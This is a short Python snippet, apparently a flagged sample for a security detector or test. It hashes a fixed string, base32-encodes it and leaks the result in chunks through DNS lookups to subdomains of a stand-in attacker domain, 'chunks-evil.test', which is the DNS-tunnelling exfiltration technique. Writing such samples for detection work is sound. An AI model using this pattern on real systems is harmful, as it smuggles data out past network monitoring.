# flagged: python3.11
import base64, hashlib, socket
data = hashlib.sha512(b"a file").digest() * 3
text = base64.b32encode(data).decode().rstrip("=").lower()
for number, at in enumerate(range(0, len(text), 40)):
    try:
        socket.gethostbyname(f"{number}.{text[at:at + 40]}.chunks-evil.test")
    except OSError:
        pass
